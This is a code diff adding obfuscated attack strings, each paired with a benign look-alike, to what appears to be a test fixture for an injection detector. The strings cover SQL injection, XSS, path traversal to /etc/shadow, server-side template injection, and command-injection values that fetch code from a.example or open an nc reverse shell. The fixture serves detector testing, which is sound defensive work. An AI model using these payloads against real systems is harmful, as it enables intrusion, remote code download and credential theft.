@@ -16,6 +16,8 @@ const pairs = (
 export const attackPairs: readonly AttackPair[] = [
   ...pairs(
     'sqli',
+    ['9 %U%N%I%O%N %S%E%L%E%C%T pin %F%R%O%M cards', 'format %H%M%S of the %Y%m%d union, select one'],
+    ['9||/**/8=8', 'a||/**/b'],
     ["mallory' OR 7=7 -- ", "Mallory's order of 7 or 8"],
     ['12 UNION ALL SELECT card, cvv FROM payments', 'the union of all selected cards'],
     ["x'; DROP TABLE invoices; --", 'drop the table; then the chairs'],
@@ -44,6 +46,7 @@ export const attackPairs: readonly AttackPair[] = [
   ),
   ...pairs(
     'xss',
+    ["';steal(5)//", "it's; call (me)"],
     ['<script src=//a.example/k.js></script>', 'the script tag'],
     ['"><img src=q onerror=steal()>', '"> <img src="q.png" alt="on error">'],
     ["' autofocus onfocus=steal() '", "the 'autofocus' attribute focuses"],
@@ -65,6 +68,7 @@ export const attackPairs: readonly AttackPair[] = [
   ),
   ...pairs(
     'traversal',
+    ['/./etc/././shadow', '/./etcetera/././shadows'],
     ['../../../../etc/passwd', '../images/passwd.png'],
     ['..%2f..%2f..%2fboot.ini', 'a..b..c'],
     ['....//....//....//etc/shadow', 'to be continued.... soon'],
@@ -78,6 +82,11 @@ export const attackPairs: readonly AttackPair[] = [
   ),
   ...pairs(
     'command',
+    ['; tac<>/etc/hosts', '; cat <b>'],
+    ['| w${q}get http://a.example/k', '| w${q}ord'],
+    ["; $'\\x77get' http://a.example/k", "; $'five' each"],
+    ['{wget,http://a.example/k}', '{cat,dog,bird}'],
+    ['; ${PWD:0:1}bin${PWD:0:1}id', '; ${PWD} is where I am'],
     ['; wget http://a.example/x -O /tmp/x', 'wget; curl; and friends'],
     ['$(nc -e /bin/sh 198.51.100.7 9001)', 'costs $ (net)'],
     ['a | c\\at /e\\tc/hostname', 'a | category'],
@@ -105,6 +114,8 @@ export const attackPairs: readonly AttackPair[] = [
   ),
   ...pairs(
     'template',
+    ['{{\n x.y()\n}}', '{{\n x.y\n}}'],
+    ['{{- 9*9 -}}', '{{- nine -}}'],
     ['{{9*9}}', '{{ total }}'],
     ["{{''.__class__.__mro__[1].__subclasses__()}}", '{{ class_name }}'],
     ['<%= File.open("/x").read %>', '100 <% of all'],
